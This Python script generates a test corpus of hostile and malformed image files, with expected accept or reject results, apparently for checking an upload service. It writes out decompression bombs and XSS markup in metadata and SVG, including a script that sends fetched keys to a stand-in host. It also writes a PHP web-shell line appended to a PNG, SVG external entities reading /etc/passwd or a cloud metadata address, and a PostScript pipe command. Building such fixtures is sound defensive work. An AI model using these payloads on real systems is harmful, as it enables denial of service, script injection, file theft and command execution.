#!/usr/bin/env python3
"""Writes hostile, broken and borderline media files, with the expected outcome of each (own work).

  python make_media.py OUTDIR            writes the files and OUTDIR/manifest.tsv
Needs Pillow and numpy for the valid base images only; every hostile structure is built by hand here.
Deterministic: no clock, no randomness but random.Random(fixed seed); byte-identical for one Python/zlib/Pillow set.

manifest columns
  name    file name
  field   image | audio | file (file = offered to storage upload and to both decoders)
  expect  accept | reject
  error   fal error type that a request with this file must end with ("-" when accepted);
          several joined by "|" mean that each is right
  hazard  none | mem | cpu | net | file | xss | exec | parse      what it does to a careless server
  why
"""
import base64, io, os, random, struct, sys, wave, zlib
import numpy as np
from PIL import Image
FILES=[]
def add(name,data,field,expect,error,hazard,why): FILES.append((name,bytes(data),field,expect,error,hazard,why))
R=random.Random(20251121)
# ----------------------------------------------------------------------------- helpers
def chunk(t,d=b"",crc=None): return struct.pack(">I",len(d))+t+d+struct.pack(">I",zlib.crc32(t+d)&0xffffffff if crc is None else crc)
SIG=b"\x89PNG\r\n\x1a\n"
def ihdr(w,h,depth=8,ct=2,inter=0,comp=0,filt=0): return chunk(b"IHDR",struct.pack(">IIBBBBB",w&0xffffffff,h&0xffffffff,depth,ct,comp,filt,inter))
IEND=chunk(b"IEND")
def zeros_z(n,level=9):
    z=zlib.compressobj(level,zlib.DEFLATED,15,8,zlib.Z_RLE); out=[]; blk=b"\0"*(1<<20)
    for _ in range(n>>20): out.append(z.compress(blk))
    out.append(z.compress(b"\0"*(n&((1<<20)-1)))); out.append(z.flush()); return b"".join(out)
def photo(w,h,seed=1):
    y,x=np.mgrid[0:h,0:w]; r=np.random.RandomState(seed)
    a=np.stack([(x*255//max(1,w-1)),(y*255//max(1,h-1)),((x//16+y//16)%2*200)],-1).astype(np.int16)+r.randint(-8,9,(h,w,3))
    return Image.fromarray(np.clip(a,0,255).astype(np.uint8))
def enc(im,fmt,**k): b=io.BytesIO(); im.save(b,fmt,**k); return b.getvalue()
BASE=photo(512,384); PNG=enc(BASE,"PNG"); JPG=enc(BASE,"JPEG",quality=85); JPGP=enc(BASE,"JPEG",quality=85,progressive=True); WEBP=enc(BASE,"WEBP",quality=80); GIF=enc(BASE.quantize(64),"GIF")
def png_split(b):
    i=8; out=[]
    while i<len(b):
        n,=struct.unpack(">I",b[i:i+4]); out.append((b[i+4:i+8],b[i+8:i+8+n])); i+=12+n
    return out
def png_join(cs): return SIG+b"".join(chunk(t,d) for t,d in cs)
PC=png_split(PNG); IDAT=b"".join(d for t,d in PC if t==b"IDAT")
def png_ins(*extra): return SIG+chunk(*PC[0])+b"".join(extra)+chunk(b"IDAT",IDAT)+IEND
L="image_load_error"; U="unsupported_image_format"; BIG="image_too_large"; SM="image_too_small"; UA="unsupported_audio_format"; ANY="|"
# ----------------------------------------------------------------------------- PNG
add("png_ok.png",PNG,"image","accept","-","none","control: valid 512x384")
add("png_16bit.png",enc(Image.fromarray((np.arange(512*384,dtype=np.uint32)%65536).astype(np.uint16).reshape(384,512)),"PNG"),"image","accept","-","none","16-bit grey, must be brought to 8-bit RGB")
add("png_palette_alpha.png",enc(BASE.quantize(32),"PNG",transparency=0),"image","accept","-","none","palette with transparency, alpha to be flattened")
add("png_interlaced_gray1.png",SIG+ihdr(400,400,1,0)+chunk(b"IDAT",zlib.compress((b"\0"+b"\xaa"*50)*400))+IEND,"image","accept","-","none","1-bit grey")
for w,h,ok,why in [(1,1,0,"one pixel"),(300,400,0,"short side exactly 300: the rule is greater than 300"),(301,301,1,"short side 301"),(301,752,1,"ratio 2:5 within a pixel (0.40027)"),(301,760,0,"narrower than 2:5"),(760,301,0,"wider than 5:2"),(752,301,1,"ratio 5:2 within a pixel"),(1,65535,0,"one pixel wide"),(65535,1,0,"one pixel high")]:
    d=SIG+ihdr(w,h,8,0)+chunk(b"IDAT",zlib.compress((b"\0"+b"\x80"*w)*h,9))+IEND
    add(f"png_dim_{w}x{h}.png",d,"image","accept" if ok else "reject","-" if ok else (SM if min(w,h)<=300 else "image_aspect_ratio_error|image_too_small"),"none","documented size limits: "+why)
add("png_bomb_gray_20000.png",SIG+ihdr(20000,20000,8,0)+chunk(b"IDAT",zeros_z(20001*20000))+IEND,"image","reject",BIG,"mem","400 megapixel grey in under 400 kB")
add("png_bomb_rgba_12000.png",SIG+ihdr(12000,12000,8,6)+chunk(b"IDAT",zeros_z(48001*12000))+IEND,"image","reject",BIG,"mem","144 megapixel RGBA: 576 MB decoded, just under Pillow's error limit of 2 x 89.5 MP")
add("png_bomb_bits_100000.png",SIG+ihdr(100000,100000,1,0)+chunk(b"IDAT",zeros_z(12501*20000))+IEND,"image","reject",BIG,"mem","10 gigapixel of 1 bit, data for a fifth of it")
add("png_bomb_header_max.png",SIG+ihdr(0x7fffffff,0x7fffffff,16,6)+chunk(b"IDAT",zlib.compress(b"\0"*100))+IEND,"image","reject",BIG+ANY+L,"mem","largest legal header")
add("png_dim_zero.png",SIG+ihdr(0,0)+chunk(b"IDAT",zlib.compress(b""))+IEND,"image","reject",L+ANY+SM,"parse","0x0")
add("png_dim_zero_w.png",SIG+ihdr(0,500)+chunk(b"IDAT",zlib.compress(b"\0"*500))+IEND,"image","reject",L+ANY+SM,"parse","width 0")
add("png_dim_negative.png",SIG+ihdr(0x80000001,0xffffffff)+chunk(b"IDAT",zlib.compress(b"\0"*64))+IEND,"image","reject",L+ANY+BIG,"mem","sign bit set in both sizes")
add("png_bad_crc_ihdr.png",SIG+PNG[8:29]+b"\0\0\0\0"+PNG[33:],"image","reject",L,"parse","header checksum wrong")
bad=bytearray(PNG); bad[len(bad)//2]^=0xff
add("png_bad_idat.png",bad,"image","reject",L,"parse","one flipped byte in compressed data")
add("png_truncated_half.png",PNG[:len(PNG)//2],"image","reject",L,"parse","cut in the middle")
add("png_truncated_20.png",PNG[:20],"image","reject",L,"parse","cut in IHDR")
add("png_signature_only.png",SIG,"image","reject",L,"parse","signature only")
add("png_no_iend.png",PNG[:-12],"image","accept","-","parse","IEND missing, picture complete: decoders agree to accept")
add("png_no_idat.png",SIG+ihdr(512,384)+IEND,"image","reject",L,"parse","no IDAT")
add("png_empty_idat.png",SIG+ihdr(512,384)+chunk(b"IDAT",b"")+IEND,"image","reject",L,"parse","empty IDAT")
add("png_short_idat.png",SIG+ihdr(512,384)+chunk(b"IDAT",zlib.compress((b"\0"+b"\x40"*1536)*100))+IEND,"image","accept|reject",L,"parse","a quarter of the rows (Pillow 13 fills the rest with zeros, silently)")
add("png_idat_trailing_bomb.png",SIG+ihdr(512,384,8,0)+chunk(b"IDAT",zeros_z(513*384+(300<<20)))+IEND,"image","accept|reject",L,"cpu","300 MB of extra zeros after the last row: must not be inflated into memory")
add("png_iccp_bomb.png",png_ins(chunk(b"iCCP",b"x\0\0"+zeros_z(300<<20))),"image","accept|reject",L,"mem","colour profile inflating to 300 MB")
add("png_ztxt_bomb.png",png_ins(*[chunk(b"zTXt",b"k%d\0\0"%i+zeros_z(20<<20)) for i in range(20)]),"image","accept|reject",L,"mem","20 text chunks of 20 MB each")
add("png_itxt_bomb.png",png_ins(chunk(b"iTXt",b"k\0\1\0\0\0"+zeros_z(300<<20))),"image","accept|reject",L,"mem","compressed international text of 300 MB")
add("png_100k_chunks.png",png_ins(chunk(b"tEXt",b"a\0b")*100000),"image","accept|reject",L,"cpu","100,000 text chunks")
add("png_text_script.png",png_ins(chunk(b"tEXt",b"Comment\0<script>alert(document.domain)</script>"),chunk(b"iTXt",b"XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta><img src=x onerror=alert(1)></x:xmpmeta>")),"image","accept","-","xss","markup in metadata: must not reach the playground unescaped, and must be gone from outputs")
add("png_no_plte.png",SIG+ihdr(400,400,8,3)+chunk(b"IDAT",zlib.compress((b"\0"+b"\1"*400)*400))+IEND,"image","accept|reject",L,"parse","palette type without palette")
add("png_plte_bad_index.png",SIG+ihdr(400,400,8,3)+chunk(b"PLTE",b"\xff\0\0"*2)+chunk(b"IDAT",zlib.compress((b"\0"+b"\xf0"*400)*400))+IEND,"image","accept|reject",L,"parse","indices beyond the palette")
add("png_plte_not_mult3.png",SIG+ihdr(400,400,8,3)+chunk(b"PLTE",b"\xff\0\0\1")+chunk(b"IDAT",zlib.compress((b"\0"+b"\0"*400)*400))+IEND,"image","accept|reject",L,"parse","palette of 4 bytes")
add("png_trns_bad_len.png",png_ins(chunk(b"tRNS",b"\0")),"image","accept|reject",L,"parse","tRNS with one byte")
add("png_bad_depth.png",SIG+ihdr(400,400,3,2)+chunk(b"IDAT",zlib.compress(b"\0"*100000))+IEND,"image","reject",L,"parse","bit depth 3")
add("png_bad_filter.png",SIG+ihdr(400,400,8,0)+chunk(b"IDAT",zlib.compress((b"\x09"+b"\0"*400)*400))+IEND,"image","reject",L,"parse","row filter 9")
add("png_dup_ihdr.png",SIG+ihdr(512,384)+ihdr(20000,20000)+chunk(b"IDAT",IDAT)+IEND,"image","reject",L+ANY+BIG,"parse","second header with other sizes")
add("png_huge_chunk_len.png",SIG+ihdr(512,384)+struct.pack(">I",0x7fffffff)+b"IDAT"+IDAT,"image","accept|reject",L,"mem","chunk length 2 GB, data complete")
add("png_chunk_len_neg.png",SIG+ihdr(512,384)+struct.pack(">I",0xfffffff0)+b"tEXt"+b"abc","image","reject",L,"mem","chunk length with sign bit")
seqn=[0]
def fctl(w,h,x=0,y=0):
    s=seqn[0]; seqn[0]+=1; return chunk(b"fcTL",struct.pack(">IIIIIHHBB",s,w,h,x,y,1,100,0,0))
def fdat(d):
    s=seqn[0]; seqn[0]+=1; return chunk(b"fdAT",struct.pack(">I",s)+d)
z1=zlib.compress((b"\0"+b"\0"*400)*400,9)
seqn[0]=0; fr=b"".join(fctl(400,400)+fdat(z1) for _ in range(5000))
add("apng_5000_frames.png",SIG+ihdr(400,400,8,0)+chunk(b"acTL",struct.pack(">II",5001,0))+chunk(b"IDAT",z1)+fr+IEND,"image","accept|reject",L,"cpu","5001 frames: only the first may be decoded")
seqn[0]=0
add("apng_frame_outside.png",SIG+ihdr(400,400,8,0)+chunk(b"acTL",struct.pack(">II",2,0))+fctl(400,400)+chunk(b"IDAT",z1)+fctl(65535,65535,60000,60000)+fdat(z1)+IEND,"image","accept|reject",L,"mem","second frame larger than the canvas")
add("apng_actl_max.png",SIG+ihdr(400,400,8,0)+chunk(b"acTL",struct.pack(">II",0xffffffff,0))+chunk(b"IDAT",z1)+IEND,"image","accept|reject",L,"parse","4 billion frames announced")
add("poly_png_zip.png",PNG+b"PK\x05\x06"+b"\0"*18,"image","accept","-","xss","PNG with an (empty) zip at the end: content after IEND must not survive")
add("poly_png_html.png",PNG+b"<html><script>alert(1)</script></html>","image","accept","-","xss","PNG with HTML at the end")
add("poly_png_html_head.png",SIG+ihdr(512,384)+chunk(b"tEXt",b"a\0--><script>alert(1)</script>")+chunk(b"IDAT",IDAT)+IEND,"image","accept","-","xss","HTML within the first 256 bytes (MIME sniffing)")
add("poly_png_php.png",PNG+b"<?php system($_GET['c']); ?>","image","accept","-","exec","PNG with PHP at the end")
add("png_named_svg.svg",PNG,"image","accept","-","none","PNG named .svg: decide by content, not by name")
# ----------------------------------------------------------------------------- JPEG
def jseg(m,d): return bytes([0xff,m])+struct.pack(">H",len(d)+2)+d
add("jpeg_ok.jpg",JPG,"image","accept","-","none","control")
add("jpeg_progressive.jpg",JPGP,"image","accept","-","none","control, progressive")
add("jpeg_gray.jpg",enc(BASE.convert("L"),"JPEG"),"image","accept","-","none","grey")
add("jpeg_cmyk.jpg",enc(BASE.convert("CMYK"),"JPEG"),"image","accept","-","none","CMYK, must become RGB")
add("jpeg_named_png.png",JPG,"image","accept","-","none","JPEG named .png")
def exif(orient=None,extra=None):
    ent=[]
    if orient is not None: ent.append(struct.pack("<HHIHH",0x112,3,1,orient,0))
    if extra: ent+=extra
    t=b"II*\0\x08\0\0\0"+struct.pack("<H",len(ent))+b"".join(ent)+b"\0\0\0\0"; return t
def jx(t): return JPG[:2]+jseg(0xe1,b"Exif\0\0"+t)+JPG[2:]
for o in (3,6,8): add(f"jpeg_exif_orient{o}.jpg",jx(exif(o)),"image","accept","-","none",f"EXIF orientation {o}: must be applied before the size test and the render")
add("jpeg_exif_orient99.jpg",jx(exif(99)),"image","accept","-","parse","orientation out of range: ignore")
add("jpeg_exif_loop.jpg",jx(b"II*\0\x08\0\0\0"+struct.pack("<H",1)+struct.pack("<HHII",0x8769,4,1,8)+struct.pack("<I",8)),"image","accept|reject",L,"cpu","EXIF directory that points to itself")
add("jpeg_exif_hugecount.jpg",jx(exif(1,[struct.pack("<HHII",0x10e,2,0xfffffff0,8)])),"image","accept|reject",L,"mem","EXIF string of 4 GB")
add("jpeg_exif_script.jpg",jx(exif(1,[struct.pack("<HHII",0x10e,2,39,38)])+b"<script>alert('exif')</script>\0\0\0\0\0\0\0\0\0"),"image","accept","-","xss","markup in EXIF ImageDescription")
add("jpeg_exif_garbage.jpg",jx(bytes(R.randrange(256) for _ in range(4000))),"image","accept|reject",L,"parse","random EXIF")
add("jpeg_icc_garbage.jpg",JPG[:2]+jseg(0xe2,b"ICC_PROFILE\0\1\1"+bytes(R.randrange(256) for _ in range(3000)))+JPG[2:],"image","accept|reject",L,"parse","random ICC profile: colour conversion must not raise a 500")
add("jpeg_icc_missing_parts.jpg",JPG[:2]+jseg(0xe2,b"ICC_PROFILE\0\2\5"+b"\0"*200)+JPG[2:],"image","accept|reject",L,"parse","ICC part 2 of 5 alone")
add("jpeg_comment_html.jpg",JPG[:2]+jseg(0xfe,b"<html><body onload=alert(1)>")+JPG[2:],"image","accept","-","xss","HTML comment near the start")
add("jpeg_1000_app.jpg",JPG[:2]+jseg(0xef,b"x"*1000)*5000+JPG[2:],"image","accept|reject",L+ANY+"file_too_large","cpu","5000 APP15 segments")
def sof(b): return b.index(b"\xff\xc0") if b"\xff\xc0" in b else b.index(b"\xff\xc2")
def jdim(b,w,h): i=sof(b); return b[:i+5]+struct.pack(">HH",h,w)+b[i+9:]
add("jpeg_bomb_65500.jpg",jdim(JPG,65500,65500),"image","reject",BIG,"mem","header says 4.3 gigapixel")
add("jpeg_bomb_13000.jpg",jdim(JPG,13000,13000),"image","reject",BIG,"mem","header says 169 megapixel: under Pillow's error limit, a warning only")
add("jpeg_height_zero.jpg",jdim(JPG,512,0),"image","reject",L+ANY+SM,"parse","height 0 (DNL form)")
i=JPGP.index(b"\xff\xc2"); ss=[k for k in range(len(JPGP)-1) if JPGP[k:k+2]==b"\xff\xda"]
def scan_bomb(n,dim=None):
    b=jdim(JPGP,*dim) if dim else JPGP
    k=ss[-1]; scan=b[k:-2]
    return b[:k]+scan*n+b"\xff\xd9"
k0=ss[1]; k1=ss[2]
# an almost empty refinement scan repeated: cheap for the sender, a whole pass over the picture for the decoder
tiny=b"\xff\xda\0\x08\1\1\0\1\5\2"+b"\0"*2
add("jpeg_scan_bomb.jpg",jdim(JPGP,8000,8000)[:ss[1]]+tiny*20000+b"\xff\xd9","image","reject",BIG+ANY+L,"cpu","20,000 progressive scans over 64 megapixel in 240 kB: minutes of CPU")
add("jpeg_scan_bomb_2000.jpg",jdim(JPGP,2000,2000)[:ss[1]]+tiny*2000+b"\xff\xd9","image","accept|reject",L,"cpu","2,000 scans over 4 megapixel: legal size, CPU budget must catch it")
add("jpeg_truncated.jpg",JPG[:len(JPG)//3],"image","reject",L,"parse","a third of the file")
add("jpeg_no_eoi.jpg",JPG[:-2],"image","accept|reject",L,"parse","EOI missing")
add("jpeg_soi_only.jpg",b"\xff\xd8","image","reject",L+ANY+U,"parse","two bytes")
add("jpeg_soi_eoi.jpg",b"\xff\xd8\xff\xd9","image","reject",L,"parse","empty JPEG")
q=JPG.index(b"\xff\xdb"); n,=struct.unpack(">H",JPG[q+2:q+4])
add("jpeg_no_dqt.jpg",JPG.replace(b"\xff\xdb",b"\xff\xfe"),"image","reject",L,"parse","quantisation tables turned into comments")
add("jpeg_no_dht.jpg",JPG.replace(b"\xff\xc4",b"\xff\xfe"),"image","accept|reject",L,"parse","Huffman tables turned into comments")
b=bytearray(JPG); s=JPG.index(b"\xff\xda")+14
for _ in range(200): b[R.randrange(s,len(b)-2)]=R.randrange(255)
add("jpeg_entropy_noise.jpg",b,"image","accept|reject",L,"parse","200 damaged bytes of entropy data: decoders only warn")
add("jpeg_restart_flood.jpg",JPG[:s]+b"\xff\xd0\xff\xd1\xff\xd2\xff\xd3"*20000+JPG[s:],"image","accept|reject",L,"cpu","80,000 restart markers")
add("jpeg_segment_past_end.jpg",JPG[:2]+b"\xff\xe5\xff\xff"+JPG[2:200],"image","reject",L,"parse","segment longer than the file")
add("poly_gif_js.gif",b"GIF89a/*"+b"\0"*20+b"*/=1;alert(1)//","file","reject",U+ANY+L+ANY+UA,"xss","GIF and JavaScript at once")
add("poly_jpeg_zip.jpg",JPG+b"PK\x03\x04"+b"\0"*26+b"PK\x05\x06"+b"\0"*18,"image","accept","-","xss","JPEG followed by a zip")
# ----------------------------------------------------------------------------- WebP
def riff(*cs):
    body=b"WEBP"+b"".join(t+struct.pack("<I",len(d))+d+(b"\0" if len(d)&1 else b"") for t,d in cs); return b"RIFF"+struct.pack("<I",len(body))+body
class BW:
    def __init__(s): s.v=0; s.n=0
    def put(s,x,k): s.v|=x<<s.n; s.n+=k
    def get(s): return s.v.to_bytes((s.n+7)//8,"little")
def vp8l_solid(w,h,argb=(0xff,0x20,0x40,0x60)):
    b=BW(); b.put(0x2f,8); b.put(w-1,14); b.put(h-1,14); b.put(0,1); b.put(0,3); b.put(0,1); b.put(0,1); b.put(0,1)
    for sym in (argb[2],argb[1],argb[3],argb[0],0): b.put(1,1); b.put(0,1); b.put(1,1); b.put(sym,8)
    return b.get()+b"\0"*8
add("webp_ok.webp",WEBP,"image","accept","-","none","control, lossy")
add("webp_lossless.webp",enc(BASE,"WEBP",lossless=True),"image","accept","-","none","control, lossless")
add("webp_solid_640.webp",riff((b"VP8L",vp8l_solid(640,640))),"image","accept","-","none","40-byte lossless picture built by hand")
add("webp_bomb_16383.webp",riff((b"VP8L",vp8l_solid(16383,16383))),"image","reject",BIG,"mem","268 megapixel in about 40 bytes: 1 GB decoded")
add("webp_bomb_13000.webp",riff((b"VP8L",vp8l_solid(13000,13000))),"image","reject",BIG,"mem","169 megapixel in about 40 bytes, below Pillow's error limit")
add("webp_vp8x_canvas_max.webp",riff((b"VP8X",struct.pack("<I",0)+b"\xff\xff\xff"+b"\xff\xff\xff"),(b"VP8L",vp8l_solid(640,640))),"image","reject",L+ANY+BIG,"mem","canvas of 16,777,216 squared")
add("webp_truncated.webp",WEBP[:len(WEBP)//2],"image","reject",L,"parse","half")
add("webp_riff_size_zero.webp",WEBP[:4]+b"\0\0\0\0"+WEBP[8:],"image","reject",L,"parse","RIFF size 0")
add("webp_riff_size_max.webp",WEBP[:4]+b"\xff\xff\xff\xff"+WEBP[8:],"image","accept|reject",L,"parse","RIFF size 4 GB")
add("webp_header_only.webp",b"RIFF\x04\0\0\0WEBP","image","reject",L,"parse","no chunk")
one=vp8l_solid(400,400); anmf=struct.pack("<I",0)[:3]+b"\0\0\0"+(399).to_bytes(3,"little")*2+(1).to_bytes(3,"little")+b"\0"
fr=anmf+b"VP8L"+struct.pack("<I",len(one))+one+(b"\0" if len(one)&1 else b"")
add("webp_anim_10000.webp",riff((b"VP8X",struct.pack("<I",2)+(399).to_bytes(3,"little")*2),(b"ANIM",b"\0"*6),*[(b"ANMF",fr)]*10000),"image","accept|reject",L+ANY+U,"cpu","10,000 frames: only the first may be decoded")
add("webp_iccp_garbage.webp",riff((b"VP8X",struct.pack("<I",0x20)+(639).to_bytes(3,"little")*2),(b"ICCP",b"\xff"*5000),(b"VP8L",vp8l_solid(640,640))),"image","accept|reject",L,"parse","nonsense ICC profile")
add("webp_exif_orient6.webp",riff((b"VP8X",struct.pack("<I",8)+(639).to_bytes(3,"little")*2),(b"VP8L",vp8l_solid(640,640)),(b"EXIF",exif(6))),"image","accept","-","none","orientation in WebP")
add("webp_garbage_vp8.webp",riff((b"VP8 ",bytes(R.randrange(256) for _ in range(5000)))),"image","reject",L+ANY+BIG+ANY+SM+"|feature_not_supported","parse","random VP8 data")
# ----------------------------------------------------------------------------- formats that are not on the list
def tiff(ents,tail=b"",first=8,nxt=0): return b"II*\0"+struct.pack("<I",first)+struct.pack("<H",len(ents))+b"".join(struct.pack("<HHII",*e) for e in ents)+struct.pack("<I",nxt)+tail
def tiff_ents(w,h,**k): return [(256,4,1,w),(257,4,1,h),(258,3,1,8),(259,3,1,k.get("comp",1)),(262,3,1,1),(273,4,1,200),(277,3,1,1),(278,4,1,h),(279,4,1,k.get("n",1000))]
add("tiff_ok.tif",enc(BASE,"TIFF"),"image","reject",U,"none","TIFF is not accepted")
add("tiff_bomb.tif",tiff(tiff_ents(100000,100000,comp=8,n=400),zeros_z(100000)),"image","reject",U,"mem","10 gigapixel deflate TIFF")
add("tiff_ifd_loop.tif",tiff(tiff_ents(400,400),b"\0"*2000,8,8),"image","reject",U,"cpu","directory list that loops")
add("tiff_count_max.tif",tiff([(270,2,0xffffffff,8)]+tiff_ents(400,400),b"\0"*2000),"image","reject",U,"mem","tag with 4 billion bytes")
add("tiff_named_png.png",enc(BASE,"TIFF"),"image","reject",U,"none","TIFF named .png")
add("gif_ok.gif",GIF,"image","reject",U,"none","GIF is not on the list of the second dialect")
add("gif_canvas_max.gif",b"GIF89a"+struct.pack("<HH",65535,65535)+b"\x80\0\0\0\0\0\xff\xff\xff,"+struct.pack("<HHHH",0,0,65535,65535)+b"\0\x02\x02\x44\x01\0;","image","reject",U,"mem","4.3 gigapixel canvas in 34 bytes")
gf=b"!\xf9\4\0\1\0\0\0,"+struct.pack("<HHHH",0,0,8,8)+b"\0\x02\x06\x84\x8f\xa9\xcb\xed\x0f\0"
add("gif_50000_frames.gif",b"GIF89a"+struct.pack("<HH",1000,1000)+b"\x80\0\0\0\0\0\xff\xff\xff"+gf*50000+b";","image","reject",U,"cpu","50,000 frames on a 1 megapixel canvas")
add("gif_bad_lzw.gif",GIF[:800]+bytes(R.randrange(256) for _ in range(2000)),"image","reject",U+ANY+L,"parse","random LZW data")
add("gif_no_trailer.gif",GIF[:-1],"image","reject",U,"parse","trailer missing")
SVG='<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="640" height="640">%s</svg>'
add("svg_plain.svg",(SVG%'<rect width="9" height="9"/>').encode(),"image","reject",U,"none","SVG is not accepted")
add("svg_script.svg",(SVG%'<script>fetch("/keys").then(r=>r.text()).then(t=>location="//x/"+t)</script>').encode(),"file","reject",U+ANY+UA,"xss","script in SVG: if stored, it must be served as attachment or under a sandbox policy")
add("svg_onload.svg",b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',"file","reject",U+ANY+UA,"xss","event handler")
add("svg_foreign.svg",(SVG%'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>').encode(),"file","reject",U+ANY+UA,"xss","HTML inside SVG")
add("svg_xxe.svg",b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',"image","reject",U,"file","external entity")
add("svg_xxe_http.svg",b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % p SYSTEM "http://169.254.169.254/x.dtd">%p;]><svg/>',"image","reject",U,"net","external parameter entity over HTTP")
lol="".join(f'<!ENTITY l{i} "'+f"&l{i-1};"*10+'">' for i in range(1,10))
add("svg_billion_laughs.svg",('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "lol">'+lol+']><svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>').encode(),"image","reject",U,"mem","entity expansion")
add("svg_href_file.svg",(SVG%'<image xlink:href="file:///etc/passwd" width="9" height="9"/><use xlink:href="http://127.0.0.1:6379/#x"/>').encode(),"image","reject",U,"file","references to files and hosts")
add("svg_named_png.png",(SVG%"<script>alert(1)</script>").encode(),"file","reject",U+ANY+UA,"xss","SVG named .png: must not be served as a document")
import gzip as _g
def gz(d): b=io.BytesIO(); f=_g.GzipFile("",mode="wb",fileobj=b,mtime=0); f.write(d); f.close(); return b.getvalue()
add("svgz.svgz",gz((SVG%"<rect/>").encode()),"image","reject",U,"none","compressed SVG")
add("gzip_bomb.png",gz(b"\0"*(64<<20)),"image","reject",U+ANY+L,"mem","gzip stream named .png")
add("bmp_ok.bmp",enc(BASE,"BMP"),"image","reject",U,"none","BMP is not accepted")
add("bmp_bomb.bmp",b"BM"+struct.pack("<IHHI",100,0,0,54)+struct.pack("<IiiHHIIiiII",40,60000,60000,1,24,0,0,0,0,0,0),"image","reject",U,"mem","10 GB announced in 54 bytes")
add("bmp_rle_bomb.bmp",b"BM"+struct.pack("<IHHI",1100,0,0,1078)+struct.pack("<IiiHHIIiiII",40,30000,30000,1,8,1,0,0,0,256,0)+b"\0"*1024+b"\xff\0"*2000,"image","reject",U,"mem","run-length BMP, 900 megapixel")
add("ico_png_bomb.ico",b"\0\0\1\0\1\0"+struct.pack("<BBBBHHII",0,0,0,0,1,32,200,22)+SIG+ihdr(30000,30000,8,6)+chunk(b"IDAT",zeros_z(1<<20))+IEND,"image","reject",U,"mem","icon holding a 900 megapixel PNG")
add("psd_bomb.psd",b"8BPS\0\1"+b"\0"*6+struct.pack(">HIIHH",3,30000,30000,8,3)+b"\0"*12+b"\0\1"+b"\0"*64,"image","reject",U,"mem","Photoshop header 900 megapixel")
add("eps_pipe.eps",b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 400 400\n%%EndComments\n(%pipe%id > /tmp/pwned) (w) file closefile\nshowpage\n%%EOF\n","image","reject",U,"exec","PostScript that opens a pipe: never hand it to Ghostscript")
add("eps_named_png.png",b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 20000 20000\n%%EndComments\n{} loop\n","image","reject",U,"exec","endless PostScript loop named .png")
add("pdf.pdf",b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF","file","reject",U+ANY+UA,"xss","PDF with JavaScript")
card=lambda k,v: f"{k:<8}= {v:>20}".ljust(80).encode()
fits=b"".join([b"XTENSION= 'BINTABLE'".ljust(80)]) 
add("fits_bomb.fits",(card("SIMPLE","T")+card("BITPIX","8")+card("NAXIS","2")+card("NAXIS1","30000")+card("NAXIS2","30000")+b"END".ljust(80)).ljust(2880,b" "),"image","reject",U,"mem","FITS header 900 megapixel")
def fits_gz():
    h1=(card("SIMPLE","T")+card("BITPIX","8")+card("NAXIS","0")+b"END".ljust(80)).ljust(2880)
    h2=(b"XTENSION= 'BINTABLE'".ljust(80)+card("BITPIX","8")+card("NAXIS","2")+card("NAXIS1","8")+card("NAXIS2","1")+card("ZIMAGE","T")+b"ZCMPTYPE= 'GZIP_1  '".ljust(80)+card("ZBITPIX","8")+card("ZNAXIS","2")+card("ZNAXIS1","400")+card("ZNAXIS2","400")+b"END".ljust(80)).ljust(2880)
    return h1+h2+b"\0"*8+gz(b"\0"*(200<<20))
add("fits_gzip_bomb.fits",fits_gz(),"image","reject",U,"mem","shape of CVE-2026-40192: 200 MB of gzip data behind a small FITS picture")
add("ppm_bomb.ppm",b"P6 90000 90000 255\n"+b"\0"*100,"image","reject",U,"mem","8 gigapixel in 120 bytes")
add("pgm_plain_bomb.pgm",b"P2 20000 20000 255\n"+b"0 "*1000,"image","reject",U,"mem","text PGM")
add("pcx_bomb.pcx",b"\x0a\5\1\x08"+struct.pack("<HHHH",0,0,65534,65534)+b"\0"*116,"image","reject",U,"mem","PCX 4 gigapixel")
add("tga_bomb.tga",b"\0\0\x0a"+b"\0"*9+struct.pack("<HH",65535,65535)+b"\x20\0"+b"\xff\0\0\0\0"*1000,"image","reject",U+ANY+L,"mem","run-length TGA 4 gigapixel (no magic number)")
add("sgi_bomb.sgi",b"\x01\xda\1\1\0\3"+struct.pack(">HHH",65535,65535,4)+b"\0"*600,"image","reject",U,"mem","SGI")
add("dds_bomb.dds",b"DDS "+struct.pack("<IIII",124,0x1007,60000,60000)+b"\0"*56+struct.pack("<II4s",32,4,b"DXT1")+b"\0"*40,"image","reject",U,"mem","DDS 3.6 gigapixel")
add("icns_bomb.icns",b"icns"+struct.pack(">I",2000)+b"ic10"+struct.pack(">I",1992)+SIG+ihdr(30000,30000,8,6)+IEND,"image","reject",U,"mem","icns holding a large PNG header")
add("jp2_bomb.jp2",b"\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 \0\0\0\0jp2 \0\0\0-jp2h\0\0\0\x16ihdr"+struct.pack(">IIHBBBB",90000,90000,3,7,7,0,0)+b"\0\0\0\x0fcolr\1\0\0\0\0\0\x10","image","reject",U,"mem","JPEG 2000 8 gigapixel")
add("j2k_codestream.j2k",b"\xff\x4f\xff\x51"+struct.pack(">HHIIIIIIIIH",47,0,60000,60000,0,0,1,1,0,0,3)+b"\7\1\1"*3,"image","reject",U,"mem","JPEG 2000 code stream with one-pixel tiles: 3.6 billion tiles")
add("avif_ftyp.avif",b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf"+b"\0\0\0\x08meta","image","reject",U+ANY+L,"parse","AVIF shell")
add("heic_ftyp.heic",b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"+b"\0"*64,"image","reject",U,"parse","HEIC shell")
add("emf.emf",b"\1\0\0\0\x6c\0\0\0"+b"\0"*32+b" EMF"+b"\0"*64,"image","reject",U,"parse","Windows metafile")
